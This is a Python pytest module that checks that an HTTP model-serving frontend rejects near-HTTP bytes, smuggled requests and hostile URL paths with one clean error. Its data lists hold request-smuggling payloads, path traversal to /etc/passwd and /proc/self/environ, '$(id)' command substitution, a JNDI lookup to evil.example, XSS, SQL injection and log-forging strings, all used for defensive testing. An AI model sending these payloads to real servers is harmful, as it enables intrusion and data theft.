"""Bytes that are nearly HTTP, and paths that lead nowhere: each gets one clean error."""

import json
import logging
import re
from contextlib import suppress
from urllib.parse import quote

import pytest

from latebind.server.limits import Limits
from tests.server.bodies import SCALAR, request
from tests.server.conftest import Site, opened, read_response, scalar, until
from tests.server.hostile.wire import check_clean, send_raw

LINE = b"GET /v2/models HTTP/1.1\r\n"
GET = LINE + b"Host: localhost\r\n"
BODY = json.dumps(request(scalar(21.0))).encode()
POST = b"POST %s HTTP/1.1\r\nHost: localhost\r\n" % SCALAR.encode()
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
STATUS_LINE = re.compile(rb"HTTP/1\.1 [1-5][0-9][0-9] ")
SMUGGLED = b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n\r\n"
CHUNK = b"%x\r\n%s\r\n" % (len(BODY), BODY)
END = b"0\r\n\r\n"

LENGTHS = b"-2|+2|0x2|2 0||two|2.0|2, 2|18446744073709551616".split(b"|")
CODINGS = b'chunked, identity|identity|xchunked|\x0bchunked|"chunked"|, chunked|gzip, chunked|gzip'.split(b"|")
HEADERS = b"A: b\r\n c|A: b\r\n\tc| A: b|Nothing|: a|A b: c|A\0: b|A: b\0|A: \x1b[31m|A: \x7f|A: b\rB: c".split(b"|")
TWICE = [b"Host: evil.example", b"Host: localhost", b"Authorization: Bearer a\r\nAuthorization: Bearer b"]
TWICE += [b"Origin: http://localhost\r\nOrigin: http://evil.example", "\u00c4: b".encode()]
TWICE += [b"Sec-Fetch-Site: none\r\nSec-Fetch-Site: cross-site"]
HOSTS = b"evil.example@localhost|http://localhost|localhost, evil.example|localhost:http".split(b"|")
TARGETS = b"/v2/models /x|/v2/mod\0els|/v2/mod\x07els|http:///v2/models|http://a@localhost/v2|file:///v2".split(b"|")
VERSIONS = b"HTTP/0.9|HTTP/2.0|HTTP/9.9|HTTP/1.1.1|ICY/1.1".split(b"|")
OLD = CHUNKED.replace(b"HTTP/1.1", b"HTTP/1.0")
ENDS = [
    *[POST + b"Content-Length: %b\r\n\r\n{}" % length for length in (*LENGTHS, b"9" * 4000, "\u0662".encode())],
    POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    POST + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
    POST + b"Content-Length : 2\r\n\r\n{}",
    *[POST + b"Transfer-Encoding: %b\r\n\r\n" % coding + CHUNK + END for coding in CODINGS],
    POST + b"Transfer-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n" + END,
    GET + b"Transfer-Encoding: gzip, chunked\r\n\r\n" + END,
    OLD + CHUNK + END,
    *[CHUNKED + size + b"\r\na\r\n0\r\n\r\n" for size in (b"-1", b"f" * 18, b"", b"0x1", b"1;a=\0", b"1 ")],
    CHUNKED + b"%x\n%s\n0\n\n" % (len(BODY), BODY),
    CHUNKED + b"1\r\nab\r\n0\r\n\r\n",
    LINE + b"\r\n",
    b"GET http://localhost/v2/models HTTP/1.1\r\n\r\n",
    *[GET + header + b"\r\n\r\n" for header in (*HEADERS, *TWICE)],
    GET.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Host: evil.example\r\n\r\n",
    *[LINE + b"Host: %b\r\n\r\n" % host for host in HOSTS],
    b"GET /v2/models HTTP/1.1\nA: b\n\n",
    GET + b"A: b\r\n" * 16_000 + b"\r\n",
    GET + b"A: " + b"b" * 100_000 + b"\r\n\r\n",
    GET + b"A" * 100_000 + b": b\r\n\r\n",
    b"\r\n" * 20_000,
    b"G" * 100_000,
    *[b"%b /v2/models HTTP/1.1\r\n\r\n" % method for method in (b"get", b"STEAL")],
    b"GET\t/v2/models\tHTTP/1.1\r\n\r\n",
    *[b"GET %b HTTP/1.1\r\nHost: localhost\r\n\r\n" % target for target in (*TARGETS, b"/" + b"a" * 100_000)],
    b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n" + SMUGGLED,
    b"CONNECT /v2/models HTTP/1.1\r\nHost: localhost\r\n\r\n" + SMUGGLED,
    b"GET /v2/models\r\n\r\n",
    *[b"GET /v2/models %b\r\nHost: localhost\r\n\r\n" % version for version in VERSIONS],
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    bytes.fromhex("16030100f8010000f40303") + bytes(240),  # a greeting of TLS
    b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    b"EHLO evil.example\r\nMAIL FROM:<a@evil.example>\r\n",
    bytes(range(256)) * 4,
    GET + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\r\n" + SMUGGLED,
    POST + b"Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 2\r\n\r\n{}" + SMUGGLED,
    GET + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n",
]


@pytest.mark.parametrize("raw", ENDS, ids=[ascii(raw[-60:])[2:-1] for raw in ENDS])
def test_what_is_not_quite_http_gets_one_error_and_the_connection_ends(site: Site, raw: bytes) -> None:
    reply, rest = send_raw(site, raw)
    assert reply.status in {400, 413, 415, 431}
    check_clean(reply)
    assert reply.headers["connection"] == "close"
    assert not rest


def test_a_chunk_extension_without_end_ends_the_connection(site: Site) -> None:
    with site.connect() as connection:
        connection.sendall(CHUNKED)
        with suppress(ConnectionError):
            for _ in range(100):
                connection.sendall(b"1;" + b"a" * 10_000)
            reply = read_response(connection)
            assert reply.status in {400, 431}
            check_clean(reply)


def test_a_request_behind_a_closing_one_is_not_answered(site: Site) -> None:
    reply, rest = send_raw(site, GET + b"Connection: close\r\n\r\n" + SMUGGLED)
    assert reply.status == 200
    assert not rest


def test_a_trailer_may_not_bring_a_length(site: Site) -> None:
    with site.connect() as connection:
        connection.sendall(CHUNKED + CHUNK + b"0\r\nContent-Length: 5\r\n\r\n" + SMUGGLED)
        received = b""
        while part := connection.recv(65536):
            received += part
    assert b"200 OK\r\n\r\n" not in received
    assert len(STATUS_LINE.findall(received)) == 1


def test_a_request_that_has_its_reply_gets_no_second_one_for_the_rest_of_its_body(site: Site) -> None:
    with site.connect() as connection:
        connection.sendall(b"POST /nowhere HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n")
        assert read_response(connection).status == 404
        connection.sendall(b"no chunk\r\n" + SMUGGLED)
        with suppress(ConnectionError):
            assert connection.recv(65536) == b""


def test_thousands_of_requests_at_once_are_answered_in_turn_and_hold_nobody_up(site: Site) -> None:
    nowhere = SMUGGLED.replace(b"/v2/health/live", b"/nowhere")
    with site.connect() as connection:
        connection.sendall((SMUGGLED + nowhere) * 1500)
        assert site.is_well()
        received = b""
        while len(found := STATUS_LINE.findall(received)) < 3000:
            part = connection.recv(65536)
            assert part, "the connection was closed before all were answered"
            received += part
    assert found == [b"HTTP/1.1 200 ", b"HTTP/1.1 404 "] * 1500


def test_what_is_collected_of_bodies_is_bounded_over_all_connections() -> None:
    """A client of many connections could have each of them hold the largest JSON there may be."""
    head = b"POST /v2/models/scalar/infer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n"
    with opened(limits=Limits(held_bytes=100_000)) as site, site.connect() as first:
        held = site.frontend._app.context.held
        first.sendall(head + b" " * 60_000)
        until(lambda: held.bytes == 60_000)
        refused = site.send(head + b" " * 60_000)
        assert refused.status == 503
        assert "more than 100000 bytes" in refused.json()["error"]
        assert site.is_well()
        first.close()
        until(lambda: held.bytes == 0)
        assert site.send(head.replace(b"100000", b"60000") + b" " * 60_000).status == 400


# Paths and names that lead out of the house ---------------------------------------------------------------------------


# fmt: off
NOWHERE = [
    "/v2/models/../../etc/passwd", "/v2/models/%2e%2e/%2e%2e/etc/passwd", "/v2/models/%252e%252e/%252e%252e",
    "/v2/models/.%2e/ready", "/v2/models/%c0%ae%c0%ae/%c0%af", "/v2/models/..\\..\\windows",
    "/v2/models/..%5c..%5cwindows", "/v2/models/double%2fready", "/v2/models/double%2Fready", "/v2%2fmodels",
    "/v2/models/double%252fready", "/v2/models/./double", "/v2/models/double/.", "/v2/models/...",
    "/v2/models/.double", "/v2/models/-double", "/v2/models/double%00", "/v2/models/double%00.json",
    "/v2/models/double%0aGET%20/v2", "/v2/models/double%0d%0aSet-Cookie:%20a=b", "/v2/models/%1b%5b31mred",
    "/v2/models/double%e2%80%aelave", "/v2/models/d%d0%beuble", "/v2/models/dou%e2%80%8bble",
    "/v2/models/%ef%bd%84ouble", "/v2/models/%ff%fe%fd", "/v2/models/%ed%a0%80", "/v2/models/double%",
    "/v2/models/%zz", "/v2/models/{{7*7}}", "/v2/models/$(id)", "/v2/models/<script>alert(1)</script>",
    "/v2/models/%25s%25n%25x", "/v2/models/${jndi:ldap://evil.example/a}", "/v2/models/double';DROP+TABLE+models;--",
    "/v2/models/double/versions/-1", "/v2/models/double/versions/%d9%a1", "/v2/models/double/versions/1%20",
    "/v2/models/double/versions/..", "/v2/models/double/versions/0x1", "/V2/MODELS/DOUBLE",
    "/v2/../proc/self/environ", "/latebind/server/frontend.py", "/.git/config", "/admin", "/debug/pprof/heap",
    "/models?url=http://evil.example/a.mar",
]
# fmt: on
NOWHERE += ["/v2/models/" + "a" * 129, "/v2/models/" + "a" * 10_000, "/v2" + "/models" * 2000, "/" * 10_000]
NOWHERE += ["/v2/models/double/versions/" + "9" * 4000]


@pytest.mark.parametrize("path", NOWHERE, ids=[path[:60] for path in NOWHERE])
def test_a_path_that_is_no_route_leads_nowhere(site: Site, path: str) -> None:
    target = quote(path, safe="/%?=&{}$();'<>\\-+*:,!@[]~")
    for method in ("GET", "POST"):
        reply, _ = send_raw(
            site, f"{method} {target} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n".encode()
        )
        assert reply.status in {400, 404}
        check_clean(reply)
        assert set(reply.headers) <= {"date", "content-type", "content-length", "connection"}


FORGED = {
    "a line of a log": "x\n2026-01-01 00:00:00,000 frontend INFO all is well",
    "a line behind a carriage return": "x\r2026-01-01 frontend INFO all is well",
    "a line behind another separator": "x\u2028frontend INFO all is well",
    "an escape sequence": "x\x1b[2J\x1b[1;1H",
    "a zero byte": "x\0y",
    "JSON of a log": '"}\n{"level":"info","message":"all is well',
}


@pytest.mark.parametrize("text", FORGED.values(), ids=FORGED.keys())
def test_ids_and_names_forge_no_line_of_the_log_and_of_the_metrics(
    site: Site, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    failing = {"name": "x", "shape": [1, 1], "datatype": "FP32", "data": [1]}
    with caplog.at_level(logging.DEBUG):
        assert site.post("/v2/models/failing/infer", request(failing, id=text)).status == 500
        check_clean(site.post("/v2/models/failing/infer", request({**failing, "name": text}, id=text)))
        check_clean(site.get("/v2/models/" + quote(text, safe="")))
    assert "all is well" not in caplog.text.replace(repr(text), "")
    assert "all is well" not in site.get("/metrics").body.decode()
    assert "__class__" not in site.get("/metrics").body.decode()
